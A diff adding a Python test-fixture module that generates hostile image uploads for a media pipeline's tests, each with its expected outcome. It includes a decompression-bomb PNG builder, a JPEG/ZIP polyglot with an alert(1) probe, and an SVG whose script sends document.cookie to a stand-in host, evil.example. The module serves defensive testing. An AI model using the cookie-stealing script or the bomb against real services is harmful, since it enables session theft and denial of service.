@@ -1,0 +1,285 @@
+"""The hostile-file corpus: files an attacker, a broken camera or a careless client uploads, each
+with what the client declares and the outcome the pipeline owes it.
+
+Every file is generated (nothing binary is checked in, nothing is downloaded) and deterministic.
+The tests push each one through the real processor path, and `mediakit loadtest` mixes them into
+its traffic; both read the expected outcome from here, so there is one table to change.
+
+Outcomes assume the type the bytes really are is enabled (`allowed_types`); `expected_for`
+applies the allow-list, since a disabled type fails as `unsupported_type` whatever it is.
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from functools import cache
+from pathlib import Path
+
+from PIL import Image
+from PIL.TiffImagePlugin import IFDRational
+
+from mediakit.samples import NOT_AN_IMAGE_HTML, alpha_png, camera_exif, camera_photo_jpeg
+from runtime.imaging import sniff_type
+from runtime.settings import Settings
+
+COMPLETED = "completed"
+FAILED = "failed"
+
+# 900 megapixels of 1-bit PNG: ~110 MB of zero rows that deflate to ~110 KB (deflate tops out
+# near 1:1032). Decoded as Pillow would hold it ("1" mode, a byte per pixel) it is 900 MB.
+BOMB_EDGE = 30_000
+# A maker note this big is what some cameras really write; it must not bloat the record.
+MAKER_NOTE_BYTES = 60_000
+# Marks bytes that only exist in the original: a derivative containing one leaked metadata.
+LEAK_MARKERS: tuple[bytes, ...] = (b"Exif\x00\x00", b"Mediakit", b"Sample Cam", b"\xde\xad\xde\xad")
+ZIP_MAGIC = b"PK\x03\x04"
+
+
+@dataclass(frozen=True)
+class HostileFile:
+    """One corpus entry: bytes, what the client declares, and the outcome the pipeline owes."""
+
+    name: str
+    build: Callable[[], bytes]
+    declared_type: str
+    status: str
+    code: str | None
+    description: str
+    # What the client declares as `size`; None means the true length. The API refuses size 0,
+    # so the empty file is declared as 1 byte (what a client lying about its length sends).
+    declared_size: int | None = None
+
+    @property
+    def data(self) -> bytes:
+        return _cached(self.name, self.build)
+
+    @property
+    def size(self) -> int:
+        return len(self.data) if self.declared_size is None else self.declared_size
+
+    @property
+    def real_type(self) -> str | None:
+        """The type the magic bytes announce (None: not an image at all)."""
+        return sniff_type(self.data)
+
+    def expected_for(self, settings: Settings) -> tuple[str, str | None]:
+        """(status, error code) the pipeline owes this file under `settings`."""
+        if self.code in ("size_mismatch", "empty_file", "not_an_image"):
+            return self.status, self.code
+        real = self.real_type
+        if real is not None and real not in settings.allowed_types:
+            return FAILED, "unsupported_type"
+        return self.status, self.code
+
+    def presignable(self, settings: Settings) -> bool:
+        """Whether the API accepts the create-upload request (type allowed, size positive)."""
+        return self.declared_type in settings.allowed_types and self.size > 0
+
+
+_bytes: dict[str, bytes] = {}
+
+
+def _cached(name: str, build: Callable[[], bytes]) -> bytes:
+    if name not in _bytes:
+        _bytes[name] = build()
+    return _bytes[name]
+
+
+# --- builders ------------------------------------------------------------------------------------
+
+
+def _save(image: Image.Image, fmt: str, **options: object) -> bytes:
+    buf = io.BytesIO()
+    image.save(buf, fmt, **options)
+    return buf.getvalue()
+
+
+def one_pixel(fmt: str) -> bytes:
+    return _save(Image.new("RGB", (1, 1), (250, 20, 20)), fmt)
+
+
+def truncated_jpeg() -> bytes:
+    photo = camera_photo_jpeg()
+    return photo[: len(photo) * 3 // 5]
+
+
+def bad_gps_jpeg() -> bytes:
+    """Camera EXIF whose GPS rationals have zero denominators and out-of-range degrees."""
+    exif = camera_exif(orientation=1)
+    gps = exif.get_ifd(0x8825)
+    gps[0x0002] = (IFDRational(52, 0), IFDRational(1, 1), IFDRational(0, 0))
+    gps[0x0004] = (IFDRational(400, 1), IFDRational(0, 1), IFDRational(0, 1))
+    gps[0x0006] = IFDRational(5, 0)
+    return _save(Image.new("RGB", (120, 90), (40, 90, 160)), "JPEG", exif=exif)
+
+
+def maker_note_jpeg() -> bytes:
+    """Camera EXIF with GPS and a 60 KB maker note (the kind of blob that must stay behind)."""
+    exif = camera_exif(orientation=1)
+    exif.get_ifd(0x8769)[0x927C] = b"\xde\xad" * (MAKER_NOTE_BYTES // 2)
+    return _save(Image.new("RGB", (160, 120), (90, 160, 40)), "JPEG", exif=exif)
+
+
+def garbage_exif_jpeg() -> bytes:
+    """An APP1 Exif segment that is a valid TIFF header followed by nonsense offsets."""
+    good = _save(Image.new("RGB", (64, 48), (10, 10, 10)), "JPEG")
+    garbage = b"Exif\x00\x00MM\x00*\x00\x00\xff\xf0" + b"\xff" * 64
+    segment = b"\xff\xe1" + (len(garbage) + 2).to_bytes(2, "big") + garbage
+    return good[:2] + segment + good[2:]
+
+
+def cmyk_jpeg() -> bytes:
+    return _save(Image.new("CMYK", (120, 80), (255, 0, 0, 0)), "JPEG", quality=95)
+
+
+def png_16bit_transparent() -> bytes:
+    """16-bit greyscale with a tRNS colour key (a 16-bit sample value marked transparent)."""
+    image = Image.new("I;16", (64, 48), 32768)
+    image.paste(1000, (0, 0, 16, 48))
+    return _save(image, "PNG", transparency=1000)
+
+
+def palette_png_transparent() -> bytes:
+    image = Image.new("P", (64, 64), 0)
+    image.putpalette([0, 0, 0, 255, 0, 0] + [0, 0, 0] * 254)
+    image.paste(1, (16, 16, 48, 48))
+    return _save(image, "PNG", transparency=0)
+
+
+def bomb_png(edge: int = BOMB_EDGE) -> bytes:
+    """A valid 1-bit `edge` x `edge` PNG of black rows, built without holding the raw image.
+
+    After a full flush deflate starts afresh, so every full chunk of rows compresses to the same
+    bytes: compress one, repeat it, finish with the rest (the checksum still covers every row).
+    """
+    row = b"\x00" * (1 + (edge + 7) // 8)  # filter byte 0 + packed bits, all black
+    rows_per_chunk = max(1, (1 << 20) // len(row))
+    full, rest = divmod(edge, rows_per_chunk)
+    chunk = row * rows_per_chunk
+    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = raw.compress(chunk) + raw.flush(zlib.Z_FULL_FLUSH) if full else b""
+    tail = raw.compress(row * rest) + raw.flush(zlib.Z_FINISH)
+    checksum = 1
+    for _ in range(full):
+        checksum = zlib.adler32(chunk, checksum)
+    checksum = zlib.adler32(row * rest, checksum)
+    idat = b"\x78\xda" + block * full + tail + struct.pack(">I", checksum)
+    header = struct.pack(">IIBBBBB", edge, edge, 1, 0, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", header)
+        + _png_chunk(b"IDAT", idat)
+        + _png_chunk(b"IEND", b"")
+    )
+
+
+def _png_chunk(kind: bytes, payload: bytes) -> bytes:
+    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
+    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)
+
+
+def _frames() -> list[Image.Image]:
+    return [Image.new("RGB", (40, 30), c) for c in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
+
+
+def animated(fmt: str) -> bytes:
+    first, *rest = _frames()
+    return _save(first, fmt, save_all=True, append_images=rest, duration=100, loop=0)
+
+
+def tiff() -> bytes:
+    return _save(Image.new("RGB", (90, 70), (30, 160, 90)), "TIFF", compression="tiff_lzw")
+
+
+SVG_WITH_SCRIPT = (
+    b'<?xml version="1.0" encoding="UTF-8"?>\n'
+    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
+    b'<script type="text/javascript">fetch("https://evil.example/"+document.cookie)</script>'
+    b'<rect width="100" height="100" fill="red"/></svg>\n'
+)
+
+
+def polyglot_jpeg_zip() -> bytes:
+    """A valid JPEG with a ZIP archive appended: image viewers and unzip both accept it."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as archive:
+        archive.writestr("payload.html", "<script>alert(1)</script>")
+    jpeg = _save(Image.new("RGB", (64, 48), (200, 200, 30)), "JPEG")
+    return jpeg + buf.getvalue()
+
+
+# --- the corpus ----------------------------------------------------------------------------------
+
+CORPUS: tuple[HostileFile, ...] = (
+    HostileFile(
+        "zero-bytes.jpg", lambda: b"", "image/jpeg", FAILED, "size_mismatch",
+        "empty object declared as 1 byte (the API refuses size 0 with 400 invalid_field)",
+        declared_size=1,
+    ),
+    HostileFile("one-pixel.jpg", lambda: one_pixel("JPEG"), "image/jpeg", COMPLETED, None,
+                "1x1 JPEG: derivatives are 1x1, never upscaled"),
+    HostileFile("one-pixel.png", lambda: one_pixel("PNG"), "image/png", COMPLETED, None,
+                "1x1 PNG"),
+    HostileFile("truncated.jpg", truncated_jpeg, "image/jpeg", FAILED, "truncated",
+                "camera JPEG cut off after 60% of its bytes"),
+    HostileFile("bad-gps-exif.jpg", bad_gps_jpeg, "image/jpeg", COMPLETED, None,
+                "GPS rationals with zero denominators and 400 degrees: GPS skipped"),
+    HostileFile("huge-maker-note.jpg", maker_note_jpeg, "image/jpeg", COMPLETED, None,
+                "60 KB maker note next to camera EXIF and GPS: never read, never copied"),
+    HostileFile("garbage-exif.jpg", garbage_exif_jpeg, "image/jpeg", COMPLETED, None,
+                "APP1 Exif segment with nonsense offsets: empty EXIF summary"),
+    HostileFile("camera-gps.jpg", camera_photo_jpeg, "image/jpeg", COMPLETED, None,
+                "camera EXIF, GPS and Orientation=6: rotated, GPS only for allowed tenants"),
+    HostileFile("cmyk.jpg", cmyk_jpeg, "image/jpeg", COMPLETED, None,
+                "CMYK JPEG: derivatives are RGB"),
+    HostileFile("grey16-trns.png", png_16bit_transparent, "image/png", COMPLETED, None,
+                "16-bit greyscale PNG with a transparent colour key"),
+    HostileFile("palette-trns.png", palette_png_transparent, "image/png", COMPLETED, None,
+                "palette PNG with a transparent index"),
+    HostileFile("alpha.png", lambda: alpha_png(size=(96, 64)), "image/png", COMPLETED, None,
+                "RGBA PNG with soft alpha"),
+    HostileFile("bomb-30000.png", bomb_png, "image/png", FAILED, "decompression_bomb",
+                f"{BOMB_EDGE}x{BOMB_EDGE} 1-bit PNG in ~110 KB: refused from its header"),
+    HostileFile("animated.gif", lambda: animated("GIF"), "image/gif", COMPLETED, None,
+                "three-frame GIF: first frame only (when image/gif is enabled)"),
+    HostileFile("animated.webp", lambda: animated("WEBP"), "image/webp", COMPLETED, None,
+                "three-frame WebP: first frame only"),
+    HostileFile("lzw.tiff", tiff, "image/tiff", COMPLETED, None,
+                "LZW TIFF (when image/tiff is enabled)"),
+    HostileFile("page.html.jpg", lambda: NOT_AN_IMAGE_HTML, "image/jpeg", FAILED, "not_an_image",
+                "HTML with a script, named .jpg and declared image/jpeg"),
+    HostileFile("script.svg.jpg", lambda: SVG_WITH_SCRIPT, "image/jpeg", FAILED, "not_an_image",
+                "SVG with a script element, named .jpg"),
+    HostileFile("png-as-jpeg.jpg", lambda: alpha_png(size=(64, 48)), "image/jpeg", FAILED,
+                "type_mismatch", "a real PNG declared as image/jpeg"),
+    HostileFile("polyglot-zip.jpg", polyglot_jpeg_zip, "image/jpeg", COMPLETED, None,
+                "valid JPEG + appended ZIP: the JPEG is processed, derivatives are re-encoded "
+                "so the ZIP never reaches a served file"),
+)  # fmt: skip
+
+BY_NAME: dict[str, HostileFile] = {f.name: f for f in CORPUS}
+
+
+def write_corpus(out_dir: Path) -> list[tuple[HostileFile, Path]]:
+    """Write every corpus file into `out_dir` (for looking at them, or a manual `upload`)."""
+    out_dir.mkdir(parents=True, exist_ok=True)
+    written = []
+    for entry in CORPUS:
+        path = out_dir / entry.name
+        path.write_bytes(entry.data)
+        written.append((entry, path))
+    return written
+
+
+@cache
+def valid_jpeg(seed: int, edge: int = 96) -> bytes:
+    """A small valid JPEG that differs per seed (load traffic that is not all the same bytes)."""
+    shade = (seed * 37 % 256, seed * 91 % 256, seed * 53 % 256)
+    image = Image.new("RGB", (edge + seed % 17, edge - seed % 13), shade)
+    image.paste((255 - shade[0], 80, 200), (4, 4, 20 + seed % 30, 20 + seed % 25))
+    return _save(image, "JPEG", quality=80)
